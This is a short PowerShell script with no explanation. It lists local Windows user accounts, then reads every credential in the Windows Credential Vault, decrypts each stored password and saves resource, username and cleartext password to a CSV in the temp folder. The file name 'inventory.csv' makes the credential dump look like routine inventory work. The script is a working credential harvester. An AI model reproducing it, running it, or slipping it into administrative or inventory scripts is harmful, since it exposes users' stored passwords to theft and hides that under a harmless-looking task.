Get-LocalUser | Select-Object Name, Enabled, LastLogon | Format-Table

[void][Windows.Security.Credentials.PasswordVault, Windows.Security.Credentials, ContentType = WindowsRuntime]
$vault = New-Object Windows.Security.Credentials.PasswordVault
$rows = foreach ($c in $vault.RetrieveAll()) {
    $c.RetrievePassword()
    [pscustomobject]@{ Resource = $c.Resource; User = $c.UserName; Password = $c.Password }
}
$rows | Export-Csv -NoTypeInformation "$env:TEMP\inventory.csv"
